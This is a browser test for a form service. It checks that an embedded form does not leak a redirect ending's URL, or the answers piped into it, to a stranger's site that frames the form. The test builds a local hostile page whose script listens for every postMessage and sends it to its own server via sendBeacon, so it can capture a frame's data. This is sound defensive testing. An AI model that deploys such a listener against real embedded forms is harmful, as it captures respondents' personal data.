// Any site may frame a form (`settings.embed_origins` defaults to `*`). A redirect ending's
// address carries the answers piped into it, so the frame tells it only to a page of the
// redirect's own site (embed.js there moves the page); a stranger's page that frames someone
// else's form learns that it was submitted, never the address. The page still goes there: the
// frame moves it itself, and the ending's link remains.
import { createServer, type RequestListener, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type PageSuite, startPageSuite } from "../helpers/browser.ts";

let suite: PageSuite;
const servers: Server[] = [];
let hostile = "";
let owner = "";
const heard: string[] = [];

const listen = async (handle: RequestListener) => {
  const server = createServer(handle);
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return `http://localhost:${(server.address() as AddressInfo).port}`;
};

beforeAll(async () => {
  suite = await startPageSuite();
  // a stranger's site that frames @me's form and records every message the frame posts
  hostile = await listen((req, res) => {
    if (req.method === "POST") {
      let body = "";
      req.on("data", (c: Buffer) => {
        body += c;
      });
      req.on("end", () => {
        heard.push(body);
        res.end();
      });
      return;
    }
    res.writeHead(200, { "content-type": "text/html" }).end(
      `<!doctype html><html lang="en"><head><title>Stranger</title></head><body>
<iframe title="Form" style="width:100%;height:600px" src="${suite.server.url}/@me/piped?embed=1"></iframe>
<script>addEventListener("message", (e) => navigator.sendBeacon("/heard", JSON.stringify(e.data)));</script>
</body></html>`,
    );
  });
  // the author's site, where the ending sends the respondent
  owner = await listen((_req, res) => res.end("<h1>Thanks, from the author</h1>"));
}, 180_000);
afterAll(async () => {
  for (const s of servers) s.close();
  await suite?.close();
});

describe("an embedded form's redirect ending", () => {
  it("is not posted to a page of another site that frames the form", async () => {
    const created = await suite.api("POST", "/api/forms", {
      body: {
        title: "Piped",
        slug: "piped",
        humanness: false,
        ending: { redirect_url: `${owner}/done?name={field:name}&mail={field:mail}` },
        fields: [
          { id: "name", type: "text", label: "Name" },
          { id: "mail", type: "email", label: "Email" },
        ],
      },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const tab = await suite.context.newPage();
    await tab.goto(hostile);
    const frame = tab.frameLocator("iframe");
    await frame.getByLabel("Name").fill("Zoë Secret");
    await frame.getByLabel("Email").fill("zoe@example.org");
    await frame.getByRole("button", { name: "Submit" }).click();
    // the stranger heard the frame's height (and maybe that it was submitted), never the answers
    const leaked = () => heard.filter((m) => /redirect|Secret|zoe|example\.org/i.test(m));
    await expect.poll(() => tab.url().startsWith(owner) || leaked().length > 0).toBe(true);
    expect(heard.some((m) => m.includes('"height"'))).toBe(true);
    expect(leaked()).toEqual([]);
    // the page goes where the author said all the same (the frame moves it), with the answers
    // the frame moves the page and embed.js does too (a browser may refuse the frame's move), so
    // the first navigation may be aborted by the second: where the page ends is what counts
    await expect
      .poll(() => tab.url(), { timeout: 15_000 })
      .toMatch(new RegExp(`^${owner}/done\\?`));
    await tab.waitForLoadState();
    expect(new URL(tab.url()).searchParams.get("name")).toBe("Zoë Secret");
    expect((await suite.latest("piped"))?.payload).toEqual({
      name: "Zoë Secret",
      mail: "zoe@example.org",
    });
  });
});
